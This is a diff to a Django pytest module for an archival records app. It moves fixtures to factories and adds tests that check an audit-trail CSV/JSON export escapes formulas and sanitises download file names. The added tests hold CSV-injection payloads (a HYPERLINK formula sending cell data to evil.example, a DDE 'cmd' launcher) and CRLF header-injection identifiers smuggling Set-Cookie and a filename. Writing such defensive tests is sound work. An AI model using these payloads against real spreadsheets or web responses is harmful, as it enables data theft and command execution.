@@ -4,25 +4,23 @@ import pytest
 from django.core.exceptions import PermissionDenied
 from django.urls import reverse
 
-from collections_app.models import AuditEvent, AuthorityRequest, Item, Source, Version
+from collections_app.models import AuditEvent, AuthorityRequest, Version
 from records.services import (
     AuthorityError,
     authority_request_approve,
     authority_request_reject,
     item_mark_authoritative,
 )
+from tests.factories import ItemFactory, SourceFactory, VersionFactory
 
 pytestmark = pytest.mark.django_db
 
 
 @pytest.fixture
 def item_with_two_versions():
-    source = Source.objects.create(name="Lands Registry", trust_priority=5)
-    item = Item.objects.create(identifier="LR-1962-001")
-    first, second = (
-        Version.objects.create(item=item, source=source, original_filename=f"{n}.tif", byte_size=1, sha256=n * 64)
-        for n in ("a", "b")
-    )
+    source = SourceFactory(name="Lands Registry", trust_priority=5)
+    item = ItemFactory(identifier="LR-1962-001")
+    first, second = VersionFactory.create_batch(2, item=item, source=source)
     item.authoritative_version = first
     item.save()
     return item, first, second
@@ -49,7 +47,7 @@ def test_a_reason_is_required(role_user, item_with_two_versions):
 
 def test_a_version_of_another_item_is_refused(role_user, item_with_two_versions):
     item, first, _second = item_with_two_versions
-    other = Item.objects.create(identifier="X")
+    other = ItemFactory()
     with pytest.raises(AuthorityError, match="does not belong"):
         item_mark_authoritative(item_id=other.pk, version_id=first.pk, actor=role_user("records_officer"), reason="r")
 
@@ -62,7 +60,7 @@ def test_a_curator_cannot_mark_authoritative_even_through_the_service(role_user,
 
 def test_copies_kept_as_duplicates_follow_the_new_authoritative_version(role_user, item_with_two_versions):
     item, first, second = item_with_two_versions
-    third = Version.objects.create(item=item, source=first.source, original_filename="c.jpg", byte_size=1, sha256="c")
+    third = VersionFactory(item=item, source=first.source)
     Version.objects.filter(pk__in=[second.pk, third.pk]).update(duplicate_of=first)
     item_mark_authoritative(item_id=item.pk, version_id=second.pk, actor=role_user("records_officer"), reason="r")
     duplicate_of = dict(Version.objects.values_list("pk", "duplicate_of"))
@@ -128,8 +126,8 @@ def test_the_form_without_a_reason_changes_nothing(client, role_user, item_with_
 
 
 def test_merged_away_identifiers_redirect_to_the_surviving_item(client, role_user):
-    survivor = Item.objects.create(identifier="HKMA 1962/7")
-    Item.objects.create(identifier="DR-OLD", merged_into=survivor)
+    survivor = ItemFactory(identifier="HKMA 1962/7")
+    ItemFactory(identifier="DR-OLD", merged_into=survivor)
     client.force_login(role_user("viewer"))
     for identifier in ("DR-OLD", "HKMA 1962/7"):
         response = client.get(reverse("item-by-identifier", args=[identifier]))
@@ -145,8 +143,7 @@ def test_a_viewer_sees_the_trail_but_no_form_and_the_page_cost_does_not_grow(
     with django_assert_max_num_queries(20):
         html = client.get(reverse("item-detail", args=[item.pk])).content.decode()
     assert "Mark authoritative…" not in html and "Export as CSV" in html
-    for n in range(10):
-        Version.objects.create(item=item, source=first.source, original_filename=f"{n}.jpg", byte_size=1, sha256=f"{n}")
+    VersionFactory.create_batch(10, item=item, source=first.source)
     with django_assert_max_num_queries(20):
         assert client.get(reverse("item-detail", args=[item.pk])).status_code == 200
 
@@ -163,3 +160,51 @@ def test_the_item_page_offers_approval_only_to_a_different_officer(settings, cli
     client.force_login(bob)
     html = client.get(reverse("item-detail", args=[item.pk])).content.decode()
     assert ">Approve<" in html and "Turn down" in html
+
+
+# --- the item's audit trail as a download -------------------------------------------------
+
+
+def _audit_csv(client, item) -> list[dict]:
+    import csv
+    import io
+
+    response = client.get(reverse("item-audit-csv", args=[item.pk]))
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1"],
+)
+def test_the_audit_csv_never_hands_a_spreadsheet_a_formula_in_the_reason_or_the_actor(client, role_user, formula):
+    from collections_app.services import audit_record
+
+    item = ItemFactory(identifier="HKRS-7")
+    officer = role_user("records_officer", username=formula[:150])
+    audit_record(actor=officer, action="item.note", target=item, reason=formula)
+    client.force_login(officer)
+    (row,) = _audit_csv(client, item)
+    assert row["reason"] == "'" + formula and row["actor"] == "'" + formula
+    assert row["action"] == "item.note" and row["target"] == f"collections_app.item:{item.pk}"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+@pytest.mark.parametrize("identifier", ['HK"1"\r\nSet-Cookie: x=1', "HK\\1;\tfilename=evil.html", "香港-1962/01"])
+def test_an_identifier_with_line_breaks_or_quotes_is_exported_under_a_safely_encoded_file_name(
+    client, role_user, identifier, fmt
+):
+    from urllib.parse import quote
+
+    from collections_app.models import Item
+
+    item = ItemFactory()
+    Item.objects.filter(pk=item.pk).update(identifier=identifier)  # stored before identifiers were checked
+    client.force_login(role_user("viewer"))
+    response = client.get(reverse(f"item-audit-{fmt}", args=[item.pk]))
+    assert response.status_code == 200
+    disposition = response["Content-Disposition"]
+    assert "\r" not in disposition and "\n" not in disposition and "Set-Cookie" not in response
+    assert disposition.startswith('attachment; filename="audit-') and disposition.count('"') == 2
+    assert disposition.endswith(f"; filename*=UTF-8''{quote(f'audit-{identifier}.{fmt}', safe='')}")
